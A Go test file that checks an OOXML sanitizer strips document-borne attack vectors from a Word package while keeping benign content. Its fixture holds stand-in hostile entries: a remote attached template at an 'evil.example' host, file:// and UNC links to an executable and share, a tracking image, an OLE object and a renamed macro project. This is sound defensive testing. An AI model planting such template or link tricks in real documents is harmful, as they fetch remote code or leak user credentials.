package ooxml

import (
	"archive/zip"
	"bytes"
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kehoach/kehoach/limits"
)

// packageOf reads a package made of the given parts.
func packageOf(t *testing.T, parts map[string]string) *Package {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range slices.Sorted(func(yield func(string) bool) {
		for k := range parts {
			if !yield(k) {
				return
			}
		}
	}) {
		w, err := zw.Create(name)
		require.NoError(t, err)
		_, _ = w.Write([]byte(parts[name]))
	}
	require.NoError(t, zw.Close())
	pkg, err := Read(buf.Bytes(), limits.Limits{}, func(n string) bool { return !slices.Contains([]string{".bin", ".png"}, n[max(0, len(n)-4):]) })
	require.NoError(t, err)
	return pkg
}

const (
	types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>` +
		`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
		`<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>` +
		`<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>`
	relsHead = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	relType  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	msType   = "http://schemas.microsoft.com/office/2006/relationships/"
	docHead  = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:rel="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>`
)

// Each trick a template may hold to turn the document against its
// reader, and what stays: one package holds them all, and each is looked
// at on its own.
func TestSanitize(t *testing.T) {
	pkg := packageOf(t, map[string]string{
		"[Content_Types].xml": types,
		"_rels/.rels": relsHead + `<Relationship Id="rId1" Type="` + relType + `officeDocument" Target="word/document.xml"/>` +
			`<Relationship Id="rId2" Type="` + relType + `custom-properties" Target="docProps/custom.xml"/></Relationships>`,
		"docProps/custom.xml": `<Properties/>`,
		"word/document.xml": docHead +
			`<w:p><w:hyperlink rel:id="rIdWeb"><w:r><w:t>web</w:t></w:r></w:hyperlink><w:hyperlink rel:id="rIdFile"><w:r><w:t>file</w:t></w:r></w:hyperlink></w:p>` +
			`<w:p><w:r><a:blip rel:link="rIdTrack"/><a:blip rel:embed="rIdImage"/></w:r></w:p>` +
			`<w:p><w:r><w:object><o:OLEObject Type="Embed" rel:id="rIdOle"/></w:object></w:r></w:p></w:body></w:document>`,
		"word/_rels/document.xml.rels": relsHead +
			`<Relationship Id="rIdWeb" Type="` + relType + `hyperlink" Target="https://example.org/" TargetMode="External"/>` +
			`<Relationship Id="rIdMail" Type="` + relType + `hyperlink" Target="mailto:vt@example.org" TargetMode="External"/>` +
			`<Relationship Id="rIdFile" Type="` + relType + `hyperlink" Target="file://server/share/x.exe" TargetMode="External"/>` +
			`<Relationship Id="rIdUNC" Type="` + relType + `hyperlink" Target="\\server\share" TargetMode="External"/>` +
			`<Relationship Id="rIdTrack" Type="` + relType + `image" Target="http://track.example/p.png" TargetMode="External"/>` +
			`<Relationship Id="rIdImage" Type="` + relType + `image" Target="media/image1.png"/>` +
			`<Relationship Id="rIdHeader" Type="` + relType + `header" Target="header1.xml"/>` +
			`<Relationship Id="rIdOle" Type="` + relType + `oleObject" Target="embeddings/oleObject1.bin"/>` +
			`<Relationship Id="rIdVba" Type="` + msType + `vbaProject" Target="payload.dat"/>` +
			`<Relationship Id="rIdKeys" Type="` + msType + `keyMapCustomizations" Target="customizations.xml"/>` +
			`<Relationship Id="rIdSettings" Type="` + relType + `settings" Target="settings.xml"/></Relationships>`,
		"word/header1.xml":               `<w:hdr/>`,
		"word/media/image1.png":          "PNG",
		"word/embeddings/oleObject1.bin": "OLE",
		"word/payload.dat":               "VBA", // a macro project renamed, with no content type
		"word/customizations.xml":        `<wne:tcg/>`,
		"word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="` + relsNamespace + `">` +
			`<w:attachedTemplate r:id="rIdTpl"/><w:zoom w:percent="100"/></w:settings>`,
		"word/_rels/settings.xml.rels": relsHead + `<Relationship Id="rIdTpl" Type="` + relType + `attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
	})
	removed := pkg.Sanitize()
	assert.ElementsMatch(t, []string{"docProps/custom.xml", "word/embeddings/oleObject1.bin", "word/payload.dat", "word/customizations.xml"}, removed)
	get := func(name string) string { b, _ := pkg.Get(name); return string(b) }
	t.Run("remote template", func(t *testing.T) {
		assert.NotContains(t, get("word/_rels/settings.xml.rels"), "evil.example")
		assert.NotContains(t, get("word/settings.xml"), "attachedTemplate")
		assert.Contains(t, get("word/settings.xml"), `<w:zoom w:percent="100"/>`)
	})
	t.Run("external links", func(t *testing.T) {
		rels := get("word/_rels/document.xml.rels")
		assert.Contains(t, rels, "https://example.org/")
		assert.Contains(t, rels, "mailto:vt@example.org")
		for _, gone := range []string{"file://", `\\server`, "track.example"} {
			assert.NotContains(t, rels, gone)
		}
		doc := get("word/document.xml")
		assert.Contains(t, doc, `<w:hyperlink rel:id="rIdWeb">`)
		assert.Contains(t, doc, `<w:hyperlink><w:r><w:t>file</w:t>`, "the link goes, its text stays")
		assert.NotContains(t, doc, "rIdTrack")
		assert.Contains(t, doc, `<a:blip rel:embed="rIdImage"/>`)
	})
	t.Run("OLE object", func(t *testing.T) {
		assert.NotContains(t, get("word/_rels/document.xml.rels"), "oleObject")
		assert.NotContains(t, get("word/document.xml"), "OLEObject")
		assert.NotContains(t, get("[Content_Types].xml"), "oleObject")
	})
	t.Run("custom properties", func(t *testing.T) {
		assert.NotContains(t, get("_rels/.rels"), "custom")
		assert.Contains(t, get("_rels/.rels"), "word/document.xml")
		assert.NotContains(t, get("[Content_Types].xml"), "custom-properties")
	})
	t.Run("renamed macro project", func(t *testing.T) {
		assert.False(t, pkg.Has("word/payload.dat"))
		assert.NotContains(t, get("word/_rels/document.xml.rels"), "vbaProject")
		assert.NotContains(t, get("word/_rels/document.xml.rels"), "keyMapCustomizations")
	})
	t.Run("what a document has stays", func(t *testing.T) {
		for _, name := range []string{"word/document.xml", "word/header1.xml", "word/media/image1.png", "word/settings.xml"} {
			assert.True(t, pkg.Has(name), name)
		}
		rels := get("word/_rels/document.xml.rels")
		for _, id := range []string{"rIdImage", "rIdHeader", "rIdSettings"} {
			assert.Contains(t, rels, `Id="`+id+`"`)
		}
	})
	assert.Empty(t, pkg.Sanitize(), "nothing left to drop")
}
